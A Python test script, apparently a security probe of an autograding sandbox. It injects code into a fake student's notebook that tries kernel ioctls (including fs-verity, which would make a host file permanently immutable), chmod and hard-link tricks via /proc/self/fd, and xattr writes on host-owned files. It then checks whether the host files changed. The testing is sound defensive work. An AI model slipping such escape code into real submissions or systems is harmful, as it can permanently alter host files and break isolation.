"""a14: owner-only operations on files of the checkout and venv (ext4 here, owned by 65534 like the sandbox) that
round 37's a16 did not try, from the kernel: FS_IOC_ENABLE_VERITY (would make the host's file immutable for good),
FS_IOC_FSSETXATTR (project id / flags), FS_IOC_SETVERSION, FS_IOC_SET_ENCRYPTION_POLICY on an owned empty dir, chmod
through an O_PATH descriptor via /proc/self/fd, utimensat on an O_PATH fd, F_SETFL O_NOATIME|O_APPEND, fchown to self.
Results come back in the first answer cell's output (mallory's feedback); the host files' state is checked after."""
from lib import *
A = "ps1_memory"
d = make_course("a14")
PROBE = r'''
import os as _os, fcntl as _f, ctypes as _c, errno as _e, struct as _st
_res = {}
def _try(name, fn):
    try: _res[name] = ("ok", fn())
    except OSError as ex: _res[name] = _e.errorcode.get(ex.errno, ex.errno)
_t = "CLONE/probes/ps1_memory.py"
_fd = _os.open(_t, _os.O_RDONLY)
_arg = bytearray(128); _st.pack_into("IIIIQIIQQQ", _arg, 0, 1, 1, 4096, 0, 0, 0, 0, 0, 0, 0)
_try("ENABLE_VERITY", lambda: _f.ioctl(_fd, 0x40806685, bytes(_arg)))
_try("FSGETXATTR", lambda: _f.ioctl(_fd, 0x801c581f, bytes(28)).hex()[:16])
_try("FSSETXATTR", lambda: _f.ioctl(_fd, 0x401c5820, _st.pack("IIIII8s", 0x20, 0, 1234, 0, 0, b"")))
_try("SETVERSION", lambda: _f.ioctl(_fd, 0x40087602, _st.pack("l", 7)))
_op = _os.open(_t, _os.O_PATH)
_try("chmod /proc/self/fd", lambda: _os.chmod(f"/proc/self/fd/{_op}", 0o777))
_try("utime O_PATH", lambda: _os.utime(f"/proc/self/fd/{_op}", (0, 0)))
_try("fchown self", lambda: _os.fchown(_fd, _os.getuid(), _os.getgid()))
_try("O_NOATIME", lambda: _f.fcntl(_fd, _f.F_SETFL, _os.O_NOATIME))
_try("linkat O_PATH into /tmp", lambda: _os.link(f"/proc/self/fd/{_op}", "/tmp/x", follow_symlinks=True))
_try("listxattr", lambda: _os.listxattr(_t))
_try("setxattr user", lambda: _os.setxattr(_t, "user.x", b"1"))
print("OWNER-IOCTLS", _res)
'''
mal = honest(A)
for c in mal.cells:
    if c.metadata.get("nbgrader", {}).get("grade_id") == "training_memory":
        c.source = PROBE + "\n" + c.source
for s, nb in (("aaron", honest(A)), ("mallory", mal), ("zoe", honest(A))):
    hand_in(d, s, A, nb)
before = subprocess.run(["stat", "-c", "%a %Y %X", f"{CLONE}/probes/ps1_memory.py"], capture_output=True, text=True).stdout
grade(d, A)
scores(d)
os.system(f"grep -o 'OWNER-IOCTLS[^<]*' {d}/feedback/mallory/{A}/{A}.html")
after = subprocess.run(["stat", "-c", "%a %Y %X", f"{CLONE}/probes/ps1_memory.py"], capture_output=True, text=True).stdout
print("host probes/ps1_memory.py mode mtime atime before", before.strip(), "after", after.strip())
os.system(f"lsattr {CLONE}/probes/ps1_memory.py 2>&1; getfattr -d {CLONE}/probes/ps1_memory.py 2>&1 | head -3")
